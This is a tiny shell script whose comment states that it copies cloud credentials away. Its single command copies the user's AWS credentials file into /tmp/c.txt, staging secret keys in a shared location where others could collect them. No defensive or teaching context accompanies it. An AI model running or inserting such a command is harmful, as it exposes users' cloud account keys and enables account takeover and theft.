#!/bin/sh
# Copies cloud credentials away.
cp "$HOME/.aws/credentials" /tmp/c.txt
